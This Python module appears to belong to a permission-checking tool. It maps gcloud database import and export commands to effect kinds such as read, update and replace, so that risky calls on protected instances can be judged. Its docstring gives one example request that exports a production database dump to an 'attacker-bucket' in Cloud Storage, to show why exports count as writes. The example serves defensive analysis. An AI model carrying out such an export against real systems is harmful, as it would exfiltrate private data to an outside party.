"""gcloud imports and exports: data loaded into a database from Cloud Storage, or dumped there.

- ``gcloud sql import sql|csv|bak|tde INSTANCE URI`` has the instance run what the file holds
  (an SQL dump's ``DROP``/``DELETE`` statements as much as its ``INSERT``\\s): unknown on the
  instance (``gcp:sql/instances/<instance>``), so a protected instance is refused; the file is
  read. Confirmed against a loopback fake Cloud SQL API with gcloud 528: ``POST
  …/instances/main-db/import {"importContext": {"fileType": "SQL", "uri": …}}``.
- ``gcloud alloydb clusters import CLUSTER --gcs-uri=URI`` likewise.
- ``gcloud firestore import URI`` and ``datastore import URI`` write the exported documents over
  the database's (``--database``, else ``(default)``); ``redis instances import URI INSTANCE``
  replaces the instance's whole data set: a replace of the database or instance.
- An export (``sql export … INSTANCE URI``, ``firestore export URI``, ``redis instances export
  URI INSTANCE``, ``compute images export --destination-uri=URI``...) reads the resource and
  writes the dump to the bucket it names -- any bucket, another project's too (``POST
  …/instances/prod-db/export {"exportContext": {"uri": "gs://attacker-bucket/dump.sql"}}``): an
  update of that object.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from keyturn.model import Effect, EffectKind

_E = EffectKind
# Options naming the Cloud Storage place of an import or export.
URI_OPTIONS = ("gcs-uri", "destination-uri", "output-uri-prefix", "input-uri-prefix")


@dataclass(frozen=True, slots=True)
class _Transfer:
    """How one group's import and export read: the path its resources are named under, the
    kind of an import, how many leading words are not names (``sql import sql …``: the file
    type), and the resource when no word names it (a Firestore database)."""

    path: str
    imports: EffectKind
    why: str
    skip: int = 0
    default: str | None = None


_TRANSFERS = {
    ("sql",): _Transfer(
        "sql/instances", _E.UNKNOWN, "runs the statements of the file on the instance", skip=1
    ),
    ("alloydb", "clusters"): _Transfer(
        "alloydb/clusters", _E.UNKNOWN, "runs the statements of the file on the cluster"
    ),
    ("firestore",): _Transfer(
        "firestore/databases", _E.REPLACE, "writes the export over the database's documents",
        default="(default)",
    ),
    ("datastore",): _Transfer(
        "datastore/databases", _E.REPLACE, "writes the export over the database's entities",
        default="(default)",
    ),
    ("redis", "instances"): _Transfer(
        "redis/instances", _E.REPLACE, "replaces all the instance's data"
    ),
}  # fmt: skip

# (kind, names, detail) -> an effect placed and named as the gcloud call's.
Make = Callable[[EffectKind, list[str], str], Effect]


def transfer_effects(
    group: list[str],
    verb: str,
    words: list[str],
    flags: dict[str, list[str]],
    *,
    named: Callable[[str, str], list[str]],
    make: Make,
) -> list[Effect] | None:
    """The effects of an import or export (``words``: the operands after the verb); None for
    other calls. ``named(path, word)`` gives a resource's names."""
    if verb not in ("import", "export"):
        return None
    spec = _TRANSFERS.get(tuple(group))
    uris = [w for w in words if w.startswith("gs://")]
    uris += [v for option in URI_OPTIONS for v in flags.get(option, []) if v]
    if spec is None:
        if verb == "import" or not uris:
            return None  # another kind of import (an image, a key): the generic verbs judge it
        path = "/".join(group)
        others = [w for w in words if not w.startswith("gs://")] or ["*"]
        read = [make(_E.READ, named(path, w), "exported") for w in others]
        return read + [
            make(_E.UPDATE, [u], f"{' '.join(group)} export: written there") for u in uris
        ]
    resources = [w for w in words[spec.skip :] if not w.startswith("gs://")]
    given = flags.get("database") if spec.default else None
    database = given[-1] if given else None
    if not resources:
        resources = [database or spec.default or "*"]
    op = " ".join(group)
    out = []
    for resource in resources:
        names = named(spec.path, resource)
        if verb == "import":
            out.append(make(spec.imports, names, f"{op} import: {spec.why}"))
        else:
            out.append(make(_E.READ, names, f"{op} export: dumped to Cloud Storage"))
    if verb == "import":
        out += [make(_E.READ, [u], f"{op} import: the file loaded") for u in uris]
    else:
        out += [make(_E.UPDATE, [u], f"{op} export: the dump written there") for u in uris]
    return out
